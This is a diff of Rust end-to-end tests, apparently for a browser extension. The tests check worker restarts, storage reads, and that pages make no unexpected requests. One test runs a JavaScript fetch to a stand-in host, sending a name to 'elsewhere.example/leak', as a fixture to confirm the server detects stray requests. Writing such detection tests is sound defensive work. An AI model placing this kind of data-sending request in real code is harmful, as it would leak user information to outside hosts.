@@ -72,6 +72,7 @@ async fn a_killed_worker_starts_anew_and_storage_is_read_without_waking_it() -> 
     let popup = browser.click_action(&calendar).await?;
     popup.press("Wake the worker").await?;
     popup.sees("worker: start 1").await?;
+    browser.close(popup).await?;
     browser.kill_worker().await?;
     assert_eq!(browser.storage().await?["starts"], 1);
     assert!(!browser.worker_runs().await?, "reading the storage woke the worker");
@@ -90,7 +91,11 @@ async fn every_request_is_seen_and_the_pages_make_no_strange_one() -> Result<()>
         .await?
         .evaluate("fetch('http://elsewhere.example/leak?name=Jane').catch(() => null).then(() => null)")
         .await?;
-    let strange: Vec<String> = server.strangers().into_iter().map(|request| request.host + &request.path).collect();
+    let strange: Vec<String> = server
+        .strangers()
+        .into_iter()
+        .map(|request| request.host + request.path.as_str())
+        .collect();
     assert_eq!(strange, ["elsewhere.example/leak?name=Jane"]);
     drop(gmail);
     Ok(())
